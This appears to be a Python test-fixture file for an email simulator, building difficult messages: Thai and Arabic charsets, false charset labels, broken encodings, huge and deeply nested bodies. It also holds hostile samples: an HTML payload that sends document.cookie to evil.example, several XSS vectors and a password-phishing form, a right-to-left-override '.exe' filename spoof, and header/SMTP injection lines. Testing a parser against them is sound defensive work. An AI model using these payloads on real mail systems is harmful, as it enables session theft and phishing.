"""Hard cases of what a mail says and in which letters: charsets true and false, bodies broken, empty, huge, hostile."""

import base64

from simulator.world.hard_letter import HardMail, Setting, letter, lines_of, proper
from simulator.world.mail_facts import Letter
from simulator.world.mime_writer import multipart, quoted_printable, text_part, wrapped_base64

_THAI = "เรียน คุณลูกค้า\n\nขอบคุณสำหรับใบสั่งซื้อ เราจะจัดส่งภายในวันศุกร์\n\nขอแสดงความนับถือ\nสมหญิง รุ่งเรือง"
_THAI_SUBJECT = "ใบเสนอราคาสำหรับเดือนหน้า"
_ARABIC = "السيدة الكريمة\n\nشكرا على طلبكم. سنرسل البضاعة يوم الجمعة.\n\nمع التحية\nليلى النجار"  # noqa: RUF001  Letters are what it says.
_ARABIC_SUBJECT = "عرض أسعار للطلب القادم"
_HOSTILE_HTML = """<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css); p { background: url("javascript:alert(1)") }</style>
<script>document.location='https://evil.example/?'+document.cookie</script></head>
<body onload="alert(2)"><p onclick="alert(3)" style="background:url(https://pixel.tracker.example/s)">Dear buyer</p>
<a href="javascript:alert(4)">offer</a> <a href=" java&#10;script:alert(5)">again</a>
<a href="data:text/html,<script>alert(6)</script>">data</a> <a href="https://tinroof.example/offer">good link</a>
<img src="https://pixel.tracker.example/open.gif" width=1 height=1><img src=x onerror=alert(7)>
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object><embed src="x.swf">
<form action="https://evil.example/login"><input name=password></form>
<svg><script>alert(8)</script></svg><math><mtext><img src=y onerror=alert(9)></mtext></math>
<!--[if mso]><script>alert(10)</script><![endif]--></body></html>"""


def _charset(charset: str, subject: str, text: str, how: str = "8bit") -> HardMail:
    """Build a case whose subject and body are both in one charset, rightly declared."""

    def write(setting: Setting) -> Letter:
        codec = "cp874" if charset == "windows-874" else charset
        word = base64.b64encode(subject.encode(codec)).decode()
        raw = lines_of(text, codec)
        packed = {"base64": wrapped_base64, "quoted-printable": quoted_printable}.get(how, lambda given: given)(raw)
        return letter(
            setting,
            packed,
            lines=[("Subject", f"=?{charset}?B?{word}?=")],
            kind=f"text/plain; charset={charset}",
            transfer=how,
            subject=subject,
            text=text,
        )

    return HardMail(f"{'thai' if text is _THAI else 'arabic'} {charset}", write)


def _overrides(setting: Setting) -> Letter:
    text = "total \u202e00001\u202c baht \u2066hidden\u2069"
    name = "Ana\u202egnp.exe"
    return proper(setting, subject="Invoice \u202efdp.exe\u202c", sender=_named(setting, name), text=text)


def _named(setting: Setting, name: str) -> object:
    return type(setting.other)(name, setting.other.address)


def _plain(name: str, text: str, charset: str | None, raw: bytes | None = None, *, judged: bool = True) -> HardMail:
    """Build a case of a plain body in 8 bits under a charset that may be a lie; not judged, it has no right reading."""
    kind = "text/plain" if charset is None else f"text/plain; charset={charset}"
    body = lines_of(text) if raw is None else raw
    return HardMail(name, lambda setting: letter(setting, body, kind=kind, transfer="8bit",
                                                 text=text if judged else None))  # fmt: skip


def _html(name: str, html: str) -> HardMail:
    return HardMail(
        name,
        lambda setting: letter(setting, lines_of(html), kind="text/html; charset=utf-8", transfer="8bit", html=html),
    )


def _broken(name: str, transfer: str, body: bytes) -> HardMail:
    return HardMail(name, lambda setting: letter(setting, body, transfer=transfer, text=None))


def _alternative_disagrees(setting: Setting) -> Letter:
    text, html = "The price is 100.", "<p>The price is <b>900</b>.</p>"
    return proper(setting, text=text, html=html)


def _two_charsets(setting: Setting) -> Letter:
    lines, body = multipart(
        "alternative",
        [text_part("plain", _THAI, "tis-620"), text_part("html", f"<p>{_ARABIC}</p>", "windows-1256")],
        "2",
    )
    return letter(setting, body, lines=lines, text=_THAI, html=f"<p>{_ARABIC}</p>", kind=None)


_HUGE = "\n".join(f"Line {at} of a very long report, ใบแจ้งหนี้ {at}" for at in range(6_000))
_DEEP = "<div>" * 4_000 + "bottom" + "</div>" * 4_000
_UNCLOSED = "<html><body><p>One<p>Two <b>bold <i>both</b> <table><tr><td>cell &copy; &nbsp; &#x1F642; &bogus;"
_INJECTED = (
    "Hello\nBcc: everybody@evil.example\nSubject: other\n\n.\nMAIL FROM:<x@evil.example>\nRCPT TO:<y@evil.example>"
)
_FLOWED = "This paragraph goes on \nover two lines.\n> quoted text that \n> flows, too.\n-- \nSignature"

TEXTS: tuple[HardMail, ...] = (
    _charset("utf-8", _THAI_SUBJECT, _THAI, "base64"),
    _charset("tis-620", _THAI_SUBJECT, _THAI),
    _charset("windows-874", _THAI_SUBJECT, _THAI),
    _charset("utf-8", _ARABIC_SUBJECT, _ARABIC, "quoted-printable"),
    _charset("windows-1256", _ARABIC_SUBJECT, _ARABIC),
    _charset("iso-8859-6", _ARABIC_SUBJECT, _ARABIC, "base64"),
    HardMail("right-to-left overrides", _overrides),
    _plain("unknown charset", _THAI, "x-klingon-9", judged=False),
    _plain("charset lie: ascii, but utf-8", _THAI, "us-ascii"),
    _plain("charset lie: utf-8, but windows-1256", _ARABIC, "utf-8", lines_of(_ARABIC, "windows-1256"), judged=False),
    _plain("no charset, but utf-8", _ARABIC, None),
    _plain("charset is a codec, not a charset", "plain words", "base64", judged=False),
    HardMail("utf-16", lambda setting: letter(setting, wrapped_base64(lines_of(_THAI, "utf-16")), transfer="base64",
                                              kind="text/plain; charset=utf-16", text=_THAI)),
    HardMail("utf-7", lambda setting: letter(setting, lines_of("Zoë + 1 < 2", "utf-7"), text=None,
                                             kind="text/plain; charset=utf-7")),
    HardMail("two charsets in one mail", _two_charsets),
    HardMail("emoji and combining marks", lambda setting: proper(
        setting, subject="🙂 👩🏽‍🚀 e\u0301te\u0301", text="🇹🇭 ที่\u200bน้ำ " + "Z" + "\u0310" * 50 + "algo")),
    HardMail("empty body", lambda setting: letter(setting)),
    HardMail("empty body without an empty line", lambda setting: Letter(letter(setting).raw[:-2],
                                                                       letter(setting).truth)),
    _plain("nul in the body", "before\x00after\x1b[31mred\x07", "utf-8"),
    HardMail("format=flowed", lambda setting: letter(
        setting, lines_of(_FLOWED), kind="text/plain; charset=us-ascii; format=flowed; delsp=yes", text=None)),
    _broken("quoted-printable broken", "quoted-printable", b"Caf=E9 =ZZ = 4 =C3=\r\nline =\r\nend=C3=A9="),
    _broken("base64 broken", "base64", b"SGVsbG8g*!*d29y\r\nbGQ=SGVsbG8\r\nQ"),
    _broken("unknown transfer encoding", "x-rot13", b"Uryyb jbeyq"),
    HardMail("huge text", lambda setting: proper(setting, subject="Report", text=_HUGE)),
    _plain("one endless line", "endless " * 30_000 + "end", "us-ascii"),
    _plain("header-like lines in the body", _INJECTED, "us-ascii"),
    _html("html only, hostile", _HOSTILE_HTML),
    _html("html only, unclosed", _UNCLOSED),
    _html("html nested 4,000 deep", _DEEP),
    _html("html right to left", f'<html dir="rtl"><body><p>{_ARABIC.replace(chr(10), "<br>")}</p></body></html>'),
    HardMail("plain text and html disagree", _alternative_disagrees),
)  # fmt: skip
